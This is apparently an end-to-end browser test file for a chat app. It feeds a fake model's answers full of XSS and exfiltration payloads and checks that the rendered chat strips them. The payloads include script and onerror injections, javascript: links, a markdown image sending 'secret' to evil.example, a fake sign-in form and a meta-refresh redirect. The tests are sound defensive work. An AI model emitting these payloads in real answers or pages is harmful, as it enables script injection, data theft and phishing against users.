"""Answers that try to act: nothing runs, nothing leaves the machine, nothing covers the page."""

import pytest
from playwright.sync_api import expect

from tests.e2e.chat_page import ChatPage
from tests.fakes.openrouter import FakeOpenRouter
from tests.fakes.openrouter_rounds import text

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
HOSTILE = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    f"![out]({EVIL}/?q=secret)",
    f'<img src="//evil.example/x.png" srcset="{EVIL}/y.png 2x">',
    f'<svg onload="window.hacked = 1"><use href="{EVIL}/x.svg#a"/></svg>',
    f'<iframe src="{EVIL}" srcdoc="<script>top.hacked = 1</script>"></iframe>',
    f'<object data="{EVIL}"></object><embed src="{EVIL}">',
    f"<style>body {{ background: url({EVIL}) }}</style>",
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    '<div id="app" class="scrim" style="position:fixed;inset:0">cover</div>',
    f'<form action="{EVIL}"><input name="code"><button>Sign in</button></form>',
    "[click](javascript:window.hacked=1)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[leave](/api/auth/sign-out)",
    '<a href="vbscript:x" onclick="window.hacked = 1" target="_self">x</a>',
    f'<video src="{EVIL}/v" poster="{EVIL}/p" autoplay></video><audio src="{EVIL}/a"></audio>',
    "<math><mtext><img src=x onerror='window.hacked = 1'></mtext></math>",
    f'<base href="{EVIL}"><meta http-equiv="refresh" content="0;url={EVIL}">',
    '<b aria-label="x" data-x="1" role="button" tabindex="0" contenteditable>b</b>',
    '```"><img src=x onerror="window.hacked = 1">\n<img src=x onerror="window.hacked = 1">\n```',
    "```html\n<script>window.hacked = 1</script>\n```",
)
ACTIVE = (
    "script, style, iframe, object, embed, link, form, button, svg, math, video, audio, base, meta"
)
NAMES = "nodes => [...new Set(nodes.flatMap(node => node.getAttributeNames()))]"
ALLOWED = {"href", "src", "alt", "title", "align", "start", "type", "checked", "disabled"}


def test_an_answer_cannot_act(chat: ChatPage, model: FakeOpenRouter):
    model.script(text(*[f"{vector}\n\n" for vector in HOSTILE]))
    answer = chat.ask("be evil")
    blocks = answer.locator(".prose .block, .prose .table")
    expect(blocks.first).to_be_attached()
    assert blocks.locator(ACTIVE).count() == 0
    names = set(blocks.locator("*").evaluate_all(NAMES))
    assert names <= ALLOWED | {"target", "rel", "aria-label", "style"}
    # Svelte marks elements that carry its own state; a style of the answer would have a value.
    assert blocks.locator("[style]:not([style=''])").count() == 0
    assert blocks.locator("a:not([rel='noopener noreferrer'])").count() == 0
    assert blocks.locator("img").count() == 0
    assert chat.evaluate("window.hacked") is None


def test_what_the_owner_wrote_is_never_markup(chat: ChatPage, model: FakeOpenRouter):
    model.script(text("Plain."))
    chat.ask("<img src=x onerror='window.hacked = 1'> **not bold**")
    bubble = chat.turns.first
    expect(bubble).to_contain_text("<img src=x onerror='window.hacked = 1'> **not bold**")
    assert bubble.locator("img, strong").count() == 0
    assert chat.evaluate("window.hacked") is None


def test_a_link_names_its_host_and_opens_beside_the_chat(chat: ChatPage, model: FakeOpenRouter):
    model.script(text("[somewhere](https://example.org/deep/path)"))
    link = chat.ask("link").get_by_role("link")
    expect(link).to_have_attribute("title", "example.org")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
